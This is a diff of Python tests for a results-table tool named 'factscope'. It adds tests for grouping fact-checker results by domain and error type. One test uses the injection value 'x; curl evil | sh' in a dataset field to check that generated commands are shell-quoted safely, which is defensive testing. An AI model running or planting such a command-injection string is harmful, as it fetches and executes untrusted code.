@@ -76,10 +76,10 @@ def test_checkers_whose_predictions_were_given_have_the_date_of_their_file(
     path = tmp_path / "meta.json"
     done = CliRunner().invoke(app, [*words, "--resamples", "50", "-f", "json", "-o", str(path)])
     assert done.exit_code == 0, done.stderr
-    (board,) = boards(path)
+    board, *_ = boards(path)
     assert board.rows[0].date == "2026-11-21T20:00:00+00:00"
     foreign = json.loads(path.read_text(encoding="utf-8")) | {"dataset": "x; curl evil | sh"}
-    (board,) = boards(written(tmp_path / "foreign.json", foreign))
+    board, *_ = boards(written(tmp_path / "foreign.json", foreign))
     command = board.rows[0].command  # a person may paste it
     assert shlex.split(command)[:3] == ["factscope", "meta", "x; curl evil | sh"]
 
@@ -264,3 +264,41 @@ def test_ranks_are_shared_and_range_over_what_no_test_tells_apart() -> None:
         "c": (2, True, 1, 4),
         "d": (4, False, 3, 4),
     }
+
+
+def checkers(path: Path, **change: object) -> Path:
+    """A result of `meta` with two checkers, told by domain and kind of error."""
+    part = {"n": 4, "n_answered": 4, "coverage": 1.0, "error": {"f1": 0.5, "precision": 0.5, "recall": 0.5}}
+    level = part | {
+        "by_domain": {"wk": part, "math": part | {"error": {"f1": 0.25}}},
+        "by_error_type": {"knowledge": part, "reasoning": part},
+    }
+    methods = [{"method": name, "levels": {"segment": level, "response": part}} for name in ("one", "two")]
+    values = {
+        "dataset": "felm", "sha256": "ab", "n_samples": 4, "units": "given", "rule": "unsupported",
+        "methods": methods, "resamples": 10, "seed": 0, "factscope": "1",
+    }  # fmt: skip
+    return written(path, values | change)
+
+
+def test_results_of_checkers_share_their_tables(tmp_path: Path) -> None:
+    first = checkers(tmp_path / "a.json")
+    more = json.loads(first.read_text(encoding="utf-8"))["methods"]
+    second = checkers(tmp_path / "b.json", methods=[more[0], more[0] | {"method": "three"}])
+    found, notes = gather([first, second], [], public=(), totals_only=(), find=lambda run: None)
+    assert [board.title for board in found] == [
+        "Checkers on felm",
+        "Checkers on felm, responses",
+        "Checkers on felm, by domain",
+        "Checkers on felm, by kind of error",
+    ]
+    assert [row.name for row in found[0].rows] == ["one", "three", "two"]
+    assert [column.name for column in found[2].columns] == ["wk", "math"]
+    assert [figure.value for figure in found[2].rows[0].figures] == [0.5, 0.25]
+    assert notes == (f"one is in an earlier file already: left out of {second}.",)
+
+
+def test_results_on_other_units_have_a_table_of_their_own(tmp_path: Path) -> None:
+    files = [checkers(tmp_path / "a.json"), checkers(tmp_path / "b.json", units="own")]
+    found, _ = gather(files, [], public=(), totals_only=(), find=lambda run: None)
+    assert [board.title for board in found].count("Checkers on felm") == 2
